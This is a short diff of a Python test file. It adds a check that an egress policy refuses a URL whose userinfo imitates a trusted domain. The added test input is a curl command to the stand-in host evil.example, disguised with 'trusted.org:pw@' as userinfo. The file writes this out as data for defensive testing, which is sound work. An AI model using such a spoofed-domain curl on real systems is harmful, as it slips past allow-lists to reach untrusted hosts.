@@ -85,6 +85,9 @@ def test_a_url_outside_the_egress_policy_is_refused_before_authorization(
     assert "data.example.org" in refused and "egress" in refused
     # The host was asked about the domain only; no capability exists.
     assert methods(dispatcher) == ["egress_check"]
+    # A URL's userinfo does not pass for its domain.
+    refused = r_error(k, "host$bash('curl -s HTTPS://trusted.org:pw@evil.example/x')")
+    assert "evil.example" in refused and "egress" in refused
 
 
 def test_the_result_names_the_files_the_command_changed(start_r, dispatcher, workspace):
